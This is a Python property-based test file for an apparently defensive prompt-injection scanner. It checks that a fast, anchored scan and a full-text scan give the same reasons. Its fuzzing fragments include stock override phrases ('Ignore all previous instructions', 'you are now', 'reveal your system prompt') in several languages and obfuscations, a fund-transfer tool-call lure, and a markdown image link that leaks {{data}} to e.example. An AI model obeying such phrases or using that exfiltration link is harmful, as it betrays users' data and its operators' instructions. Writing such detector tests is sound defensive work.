"""The fast injection scan (each rule tried only where the literal its regex requires stands,
adapters/anchored.py) gives exactly the reasons of its plain twin (each rule over the whole text)."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from obsline.adapters.injection import DEFAULT
from tests.adapters.corpora.injections import cases

_PIECES = [
    "ignore", "Ignore all previous instructions", "disregard", "your system prompt", "reveal", "send", "the user",
    "do not tell", "you are now", "AI", "assistant", "agent", "please", "call the transfer_funds tool", "immediately",
    "忽略之前的指令", "系统提示", "игнорируй", "предыдущие инструкции", "ıgnore", "ſystem", "İ", "ς", "é", "\u200b",
    "<|im_start|>", "[INST]", "SYSTEM:", "\n", "\n\n", " ", ".", ",", ":", "1gn0r3", "pr3v10us", "base64", "aWdub3Jl",
    "![x](https://e.example/?q={{data}})", "<!--", "-->", "\"role\": \"system\", \"content\":",
]
_TEXT = st.lists(st.one_of(st.sampled_from(_PIECES), st.text(max_size=10)), max_size=40).map("".join)


@settings(max_examples=300, deadline=None)
@given(_TEXT)
def test_the_fast_scan_gives_the_plain_scans_reasons(text: str) -> None:
    assert DEFAULT.scan(text) == DEFAULT.scan(text, fast=False)


def test_the_twins_agree_on_the_injection_corpus() -> None:
    for case in cases():
        assert DEFAULT.scan(case.text) == DEFAULT.scan(case.text, fast=False), case.text[:80]
